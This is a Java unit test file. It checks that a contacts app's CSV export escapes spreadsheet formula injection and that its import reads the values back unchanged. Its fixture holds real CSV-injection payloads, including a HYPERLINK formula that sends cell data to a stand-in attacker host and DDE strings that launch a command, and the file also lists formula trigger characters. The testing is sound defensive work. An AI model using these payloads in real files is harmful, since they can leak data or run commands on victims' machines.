package dev.rapport.contacts.imports.domain;

import static org.assertj.core.api.Assertions.assertThat;

import dev.rapport.contacts.domain.ContactCard;
import dev.rapport.contacts.domain.SpreadsheetCells;
import dev.rapport.contacts.exports.domain.ContactsCsv;
import java.io.StringReader;
import java.io.StringWriter;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** The CSV export is safe to open in a spreadsheet, and Rapport's own import still reads back every value. */
class SpreadsheetSafeCsvTest {

    static final ContactCard HOSTILE = new ContactCard(
            "=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")",
            "+cmd|' /C calc'!A0",
            List.of("-dash@example.com"),
            List.of("+34 600 000 000"),
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3",
            "'quoted town",
            List.of("https://www.linkedin.com/in/hostile"),
            "=1+1\nsecond line",
            List.of("=tag", "plain"),
            LocalDate.of(1990, 5, 17),
            null);

    static final ContactCard PLAIN = new ContactCard(
            "Ana",
            "O'Neil",
            List.of("ana@example.com"),
            List.of("600 000 000"),
            "Acme",
            "CTO",
            "Madrid",
            List.of(),
            "Met at = conference",
            List.of("alumni"),
            null,
            null);

    private static String export(ContactCard... cards) throws Exception {
        StringWriter out = new StringWriter();
        ContactsCsv csv = new ContactsCsv(out);
        for (ContactCard card : cards) {
            csv.write(card, new ContactsCsv.Extra("close", null, null));
        }
        csv.flush();
        return out.toString();
    }

    private static List<CSVRecord> parse(String csv) throws Exception {
        try (CSVParser parser = CSVParser.builder()
                .setReader(new StringReader(csv.substring(1))) // the BOM
                .setFormat(CSVFormat.RFC4180
                        .builder()
                        .setHeader()
                        .setSkipHeaderRecord(true)
                        .get())
                .get()) {
            return parser.getRecords();
        }
    }

    @Test
    void noCellOfTheExportBeginsWithAFormulaCharacter() throws Exception {
        List<CSVRecord> records = parse(export(HOSTILE, PLAIN));

        CSVRecord hostile = records.getFirst();
        assertThat(hostile.get("First Name")).isEqualTo("'=HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")");
        assertThat(hostile.get("Last Name")).isEqualTo("'+cmd|' /C calc'!A0");
        assertThat(hostile.get("Organization Name")).isEqualTo("'@SUM(1+1)*cmd|' /C calc'!A0");
        assertThat(hostile.get("Organization Title")).isEqualTo("'-2+3");
        assertThat(hostile.get("Notes")).isEqualTo("'=1+1\nsecond line");
        assertThat(hostile.get("Labels")).isEqualTo("'=tag ::: plain");
        assertThat(hostile.get("E-mail 1 - Value")).isEqualTo("'-dash@example.com");
        assertThat(hostile.get("Phone 1 - Value")).isEqualTo("'+34 600 000 000");
        assertThat(hostile.get("Address 1 - City")).isEqualTo("''quoted town");
        for (CSVRecord record : records) {
            for (String cell : record.values()) {
                // A birthday without a year (--MM-DD) is written by Rapport itself and cannot carry a formula.
                if (!cell.isEmpty() && !cell.matches("--\\d\\d-\\d\\d")) {
                    assertThat("=+-@\t\r").as(cell).doesNotContain(cell.substring(0, 1));
                }
            }
        }
        CSVRecord plain = records.get(1);
        assertThat(plain.get("Last Name")).isEqualTo("O'Neil");
        assertThat(plain.get("Notes")).isEqualTo("Met at = conference");
    }

    @Test
    void rapportsOwnImportReadsTheExportBackValueForValue() throws Exception {
        List<ImportRow> rows = new ArrayList<>();
        new GoogleContactsReader().read(new StringReader(export(HOSTILE, PLAIN)), rows::add);

        assertThat(rows).extracting(row -> ((ImportRow.Parsed) row).card()).containsExactly(HOSTILE, PLAIN);
    }

    @Test
    void aQuoteInAFileRapportDidNotWriteIsKept() throws Exception {
        String google = "First Name,Last Name,E-mail 1 - Value\n'=Ana,'Neil,ana@example.com\n";
        List<ImportRow> rows = new ArrayList<>();
        new GoogleContactsReader().read(new StringReader(google), rows::add);

        ContactCard card = ((ImportRow.Parsed) rows.getFirst()).card();
        assertThat(card.firstName()).isEqualTo("'=Ana");
        assertThat(card.lastName()).isEqualTo("'Neil");
    }

    @ParameterizedTest
    @ValueSource(strings = {"=x", "+x", "-x", "@x", "\tx", "\rx", "'x", "''x", "'=x", "x", "", "'", "x=y", "é"})
    void neutraliseThenRestoreIsTheIdentity(String value) {
        assertThat(SpreadsheetCells.restore(SpreadsheetCells.neutralise(value))).isEqualTo(value);
    }
}
